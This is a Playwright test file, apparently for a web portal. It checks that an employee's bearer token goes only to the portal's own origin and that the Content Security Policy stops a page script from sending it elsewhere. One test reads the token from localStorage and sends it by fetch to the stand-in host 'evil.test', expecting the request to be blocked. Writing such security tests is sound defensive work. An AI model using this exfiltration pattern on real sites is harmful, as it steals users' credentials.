import { expect, test } from '@tests/support/journey'

test.use({ as: 'employee' })

test('TOK-15 the token goes to our own API and to nobody else', async ({ page, portal }) => {
  const carried: string[] = []
  const strangers: string[] = []
  page.on('request', request => {
    if (request.headers()['authorization']) carried.push(new URL(request.url()).origin)
    if (new URL(request.url()).origin !== portal.url && !request.url().startsWith('data:'))
      strangers.push(request.url())
  })
  await page.goto('/user/profile')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  await expect.poll(() => [...new Set(carried)]).toEqual([portal.url])
  expect(strangers).toEqual([])
})

test.describe('a script on the page', () => {
  test.use({ expectedFaults: /Content Security Policy/ })

  test('TOK-15 cannot carry it away: the policy blocks every other host', async ({ page }) => {
    await page.goto('/user/profile')
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
    const outcome = await page.evaluate(async () => {
      const token = localStorage.getItem('token') ?? ''
      const headers = { authorization: `Bearer ${token}` }
      return fetch('https://evil.test/take', { headers }).then(
        () => 'sent',
        () => 'blocked',
      )
    })
    expect(outcome).toBe('blocked')
  })
})
